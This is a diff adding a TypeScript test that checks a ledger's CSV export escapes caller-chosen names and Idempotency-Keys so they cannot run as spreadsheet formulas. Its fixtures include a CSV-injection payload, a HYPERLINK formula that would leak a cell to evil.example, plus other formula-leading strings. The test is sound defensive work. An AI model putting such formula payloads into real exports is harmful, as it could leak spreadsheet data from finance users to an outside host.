@@ -1,0 +1,119 @@
+import { SmtpSink } from './support/smtp-sink.js';
+import { type TestApp, call, dropSchema, setUpOrganization, startTestApp } from './support/test-app.js';
+
+/** RFC 4180: records of fields; quoted fields may hold commas, doubled quotes and line breaks. */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else field += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') {
+      record.push(field);
+      field = '';
+    } else if (ch === '\r' && text[i + 1] === '\n') {
+      record.push(field);
+      records.push(record);
+      record = [];
+      field = '';
+      i++;
+    } else field += ch;
+  }
+  if (field !== '' || record.length > 0) throw new Error('the CSV does not end with CRLF');
+  return records;
+}
+
+const PROJECT_NAME = '=1+1';
+const KEY_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"open")';
+/** Idempotency-Keys are printable ASCII without spaces. */
+const IDEMPOTENCY_KEYS = ['=HYPERLINK("http://evil.example/?leak="&A2,"open")', '@SUM(A1:A9)', '+1+1', '-2+3'];
+
+/**
+ * CSV injection (CWE-1236): names and Idempotency-Keys that callers choose reach finance's spreadsheet through the
+ * ledger's CSV export. A cell that begins as a formula (=, +, -, @, tab, CR) is written as text: a single quote
+ * first, the cell quoted. Numbers stay numbers.
+ */
+describe('ledger CSV export: caller-chosen text is never a live formula', () => {
+  let smtp: SmtpSink;
+  let app: TestApp;
+  let owner: Awaited<ReturnType<typeof setUpOrganization>>;
+  let rows: Record<string, string>[];
+  let raw: string;
+
+  beforeAll(async () => {
+    smtp = await SmtpSink.start();
+    app = await startTestApp({ env: { SMTP_URL: smtp.url } });
+    owner = await setUpOrganization(app, smtp, 'finance@csv.test');
+    const project = await call(app.url, 'POST', `/orgs/${owner.orgId}/projects`, {
+      token: owner.session,
+      body: { name: PROJECT_NAME },
+    });
+    expect(project.status).toBe(201);
+    const key = await call(app.url, 'POST', `/orgs/${owner.orgId}/api-keys`, {
+      token: owner.session,
+      body: { name: KEY_NAME, project_id: project.body.id },
+    });
+    expect(key.status).toBe(201);
+    for (const idempotencyKey of [...IDEMPOTENCY_KEYS, '-7']) {
+      const search = await call(app.url, 'POST', '/search', {
+        token: key.body.key,
+        body: { query: 'formula' },
+        headers: { 'idempotency-key': idempotencyKey },
+      });
+      expect(`${search.status} ${JSON.stringify(search.body)}`).toMatch(/^200 /);
+    }
+    // The ledger is a projection: wait until it shows the five charges.
+    for (const deadline = Date.now() + 10_000; Date.now() < deadline;) {
+      const page = await call(app.url, 'GET', `/orgs/${owner.orgId}/ledger`, { token: owner.session });
+      if (page.body.entries?.length === 5) break;
+      await new Promise((resolve) => setTimeout(resolve, 100));
+    }
+    const response = await fetch(`${app.url}/orgs/${owner.orgId}/ledger`, {
+      headers: { authorization: `Bearer ${owner.session}`, accept: 'text/csv' },
+    });
+    expect(response.status).toBe(200);
+    raw = await response.text();
+    const [header, ...records] = parseCsv(raw);
+    rows = records.map((record) => Object.fromEntries(header!.map((name, i) => [name, record[i]!])));
+    expect(rows).toHaveLength(5);
+  }, 60_000);
+
+  afterAll(async () => {
+    await app?.close();
+    await smtp?.stop();
+    if (app) await dropSchema(app.schema);
+  });
+
+  test('project_name: a project named =1+1 is the text =1+1', () => {
+    for (const row of rows) expect(row.project_name).toBe(`'${PROJECT_NAME}`);
+    expect(raw).toContain(`,"'=1+1",`);
+  });
+
+  test('key_name: a HYPERLINK key name is text, quoted, with its quotes doubled', () => {
+    for (const row of rows) expect(row.key_name).toBe(`'${KEY_NAME}`);
+    expect(raw).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""open"")",`);
+  });
+
+  test('idempotency_key: any API-key holder’s Idempotency-Key is text; a plain number stays a number', () => {
+    const expected = [...IDEMPOTENCY_KEYS.map((key) => `'${key}`), '-7'];
+    expect(rows.map((row) => row.idempotency_key).sort()).toEqual(expected.sort());
+    expect(raw).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""open"")",`);
+    expect(raw).toContain(`,"'-2+3",`);
+    expect(raw).toContain(',-7,');
+  });
+
+  test('the numeric columns are untouched', () => {
+    for (const row of rows) {
+      expect(row.credits).toBe('1');
+      expect(row.commit_position).toMatch(/^\d+$/);
+    }
+  });
+});
